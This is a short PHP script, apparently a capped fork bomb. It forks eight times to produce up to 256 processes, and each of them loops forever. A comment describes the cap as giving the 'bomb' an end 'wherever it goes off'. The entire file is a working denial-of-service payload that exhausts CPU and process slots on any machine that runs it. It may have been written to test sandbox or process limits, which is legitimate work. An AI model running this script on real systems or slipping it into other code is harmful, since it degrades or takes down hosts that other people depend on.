<?php

for ($i = 0; $i < 8; $i++) { // 256 at most, so that the bomb has an end wherever it goes off
    if (@pcntl_fork() === -1) {
        break;
    }
}
while (true);
